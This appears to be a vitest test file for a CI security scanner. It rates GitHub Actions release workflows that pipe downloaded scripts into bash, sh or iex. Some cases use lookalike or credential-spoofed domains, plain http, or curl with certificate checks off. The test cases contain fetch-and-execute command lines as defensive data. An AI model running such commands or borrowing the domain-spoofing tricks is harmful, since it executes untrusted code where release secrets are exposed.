import { describe, expect, it } from 'vitest';
import { combos } from './combos/index.ts';
import { scanComboExample } from './example.ts';
import { findPaths, foldPaths } from './match.ts';

const released = (runsOn: string, run: string): string => `on: { push: { tags: ['v*'] } }
permissions: { contents: read }
jobs:
  publish:
    runs-on: ${runsOn}
    steps:
      - run: ${JSON.stringify(run)}
      - run: npm publish
        env: { NODE_AUTH_TOKEN: "\${{ secrets.NPM_TOKEN }}" }
`;

function severityOf(yaml: string): string[] {
  const { evidence } = scanComboExample({ yaml });
  const related = combos.filter(({ id }) => id.startsWith('fetched-script'));
  return foldPaths(findPaths(evidence, {}, related)).map(({ severity }) => severity);
}

describe('a release that downloads a program of', () => {
  it.each([
    ['Microsoft', 'ubuntu-latest', 'curl -sL https://aka.ms/InstallAzureCLIDeb | bash'],
    ['Microsoft, on macOS', 'macos-15', 'curl -sL https://dot.net/v1/dotnet-install.sh | bash'],
    ['Microsoft, on Windows', 'windows-2025', 'iwr https://aka.ms/tool.ps1 | iex'],
    [
      'Apple, on macOS',
      'macos-15',
      'curl -so a.pkg https://developer.apple.com/a.pkg; sudo installer -pkg a.pkg -target /',
    ],
    ['Apple, on a large macOS', 'macos-15-xlarge', 'curl -s https://itunesconnect.apple.com/a.sh | sh'],
  ])('%s, is MEDIUM', (_, runsOn, run) => {
    expect(severityOf(released(runsOn, run))).toEqual(['MEDIUM']);
  });

  it.each([
    ['Apple, on Linux', 'ubuntu-latest', 'curl -s https://itunesconnect.apple.com/a.sh | sh'],
    ['Microsoft, on an own machine', '[self-hosted, linux]', 'curl -sL https://aka.ms/InstallAzureCLIDeb | bash'],
    ['Apple, on an own machine', '[self-hosted, macos-15]', 'curl -s https://developer.apple.com/a.sh | sh'],
    ['Microsoft, over http', 'ubuntu-latest', 'curl -sL http://aka.ms/InstallAzureCLIDeb | bash'],
    ['Microsoft, unchecked', 'ubuntu-latest', 'curl -skL https://aka.ms/InstallAzureCLIDeb | bash'],
    ['a site named alike', 'ubuntu-latest', 'curl -sL https://aka.ms.acme.dev/tool.sh | bash'],
    ['a user of Microsoft', 'ubuntu-latest', 'curl -sL https://aka.ms@acme.dev/tool.sh | bash'],
    ['an address that holds its name', 'ubuntu-latest', 'curl -sL https://acme.dev/aka.ms/tool.sh | bash'],
    [
      'an account of Microsoft',
      'ubuntu-latest',
      'curl -sL https://raw.githubusercontent.com/microsoft/a/main/a.sh | sh',
    ],
  ])('%s, is HIGH', (_, runsOn, run) => {
    expect(severityOf(released(runsOn, run))).toEqual(['HIGH']);
  });
});
